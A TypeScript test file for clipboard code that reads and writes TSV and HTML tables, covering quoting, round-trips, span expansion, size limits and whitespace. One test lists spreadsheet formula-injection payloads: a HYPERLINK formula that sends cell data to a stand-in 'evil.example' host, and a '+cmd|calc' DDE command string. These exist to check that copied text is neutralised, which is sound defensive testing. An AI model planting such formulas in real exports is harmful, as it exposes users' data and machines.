import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import {
  blockMark,
  expandSpans,
  isTooLarge,
  lineMark,
  readTsv,
  settled,
  unguarded,
  writeHtmlTable,
  writeTsv,
} from './clipboard.ts'

test('[CB-1] quoted cells keep tabs, line breaks and quotes; empty cells keep their column', () => {
  expect(readTsv('a\t\tc\r\n"1\n2"\t"say ""x"""\t\n')).toEqual([
    ['a', '', 'c'],
    ['1\n2', 'say "x"', ''],
  ])
  expect(readTsv('5" pipe\tx')).toEqual([['5" pipe', 'x']])
  expect(readTsv('"open\tx')).toEqual([['"open', 'x']])
  expect(readTsv('')).toEqual([])
})

test('[CB-2] what is written is read again as it was', () => {
  const cell = fc.string({
    unit: fc.constantFrom('a', '開', '"', '\t', '\n', ' ', '=', '-', "'", '1'),
  })
  const block = fc.integer({ min: 1, max: 4 }).chain((width) =>
    fc.array(fc.array(cell, { minLength: width, maxLength: width }), {
      minLength: 1,
      maxLength: 4,
    }),
  )
  fc.assert(
    fc.property(block, (rows) => {
      fc.pre(rows.length > 1 || rows[0]?.length !== 1 || rows[0][0] !== '')
      fc.pre((rows.at(-1) ?? []).length > 1 || rows.at(-1)?.[0] !== '')
      expect(readTsv(writeTsv(rows))).toEqual(rows)
    }),
    { seed: 17, numRuns: 300 },
  )
  expect(writeHtmlTable([['<b>', 'x\ny']])).toBe(
    '<table style="white-space:pre-wrap"><tbody><tr><td>&lt;b&gt;</td><td>x<br>y</td></tr></tbody></table>',
  )
})

test('[X-15] a text that would be a formula in a spreadsheet is copied as words, and read again as it was', () => {
  const formulas = [
    '=HYPERLINK("http://evil.example/?"&A1,"開く")',
    '+cmd|calc!A0',
    '-1+1',
    '@SUM(A1)',
    ' =1+1',
    '\t=1',
    '\n=1',
    '＝A1',
  ]
  const live = (text: string) => /^[\s]*[=+\-@＝＋－＠]/.test(text)
  for (const text of formulas) {
    expect(live(writeTsv([[text]]).replace(/^"/, ''))).toBe(false)
    const html = /<td>(.*)<\/td>/s.exec(writeHtmlTable([[text]]))?.[1] ?? ''
    expect(live(html.replaceAll('<br>', '\n'))).toBe(false)
    expect(readTsv(writeTsv([[text]]))).toEqual([[text]])
  }
  const numbers = ['-5', '+81 3 1234', '-1,200.5', '−3', "it's", "'quoted'", '']
  expect(numbers.map((text) => writeTsv([[text]]))).toEqual(numbers)
  expect(unguarded("'=1")).toBe('=1')
  expect(unguarded("'quoted'")).toBe("'quoted'")
})

test('[X-16] a table larger than one takes at once is refused as a whole, whatever makes it large', () => {
  const cell = (text: string, colSpan = 1, rowSpan = 1) => ({ text, colSpan, rowSpan })
  expect(expandSpans([[cell('x', 1_000_000_000, 60_000)]])).toBeUndefined()
  expect(expandSpans([Array.from({ length: 120_000 }, () => cell('x'))])).toBeUndefined()
  const wide = [cell('title', 1000)]
  const long = Array.from({ length: 2000 }, () => [cell('x')])
  expect(expandSpans([wide, ...long])).toBeUndefined()
  expect(expandSpans([Array.from({ length: 90_000 }, () => cell('x'))])?.[0]).toHaveLength(90_000)
  expect(isTooLarge(readTsv('x\n'.repeat(200_000)))).toBe(true)
  expect(isTooLarge(readTsv('x\n'.repeat(1000)))).toBe(false)
  expect(expandSpans([])).toEqual([])
})

test('[X-17] lines of an HTML cell end where it says so, not where its source was wrapped', () => {
  expect(settled('long English text\r\n  wrapped in\tthe source ')).toBe(
    'long English text wrapped in the source',
  )
  expect(settled(`one${lineMark}  two\n three${lineMark}`)).toBe('one\ntwo three\n')
  expect(settled(`\n ${blockMark}first${blockMark}\n ${blockMark}second${blockMark}\n`)).toBe(
    'first\nsecond',
  )
  expect(settled('a\u00A0\u00A0b')).toBe('a  b')
})

test('[CB-3] spans leave empty cells so that columns stay where they were', () => {
  const cell = (text: string, colSpan = 1, rowSpan = 1) => ({ text, colSpan, rowSpan })
  expect(
    expandSpans([
      [cell('group', 1, 2), cell('wide', 2)],
      [cell('b'), cell('c')],
    ]),
  ).toEqual([
    ['group', 'wide', ''],
    ['', 'b', 'c'],
  ])
})
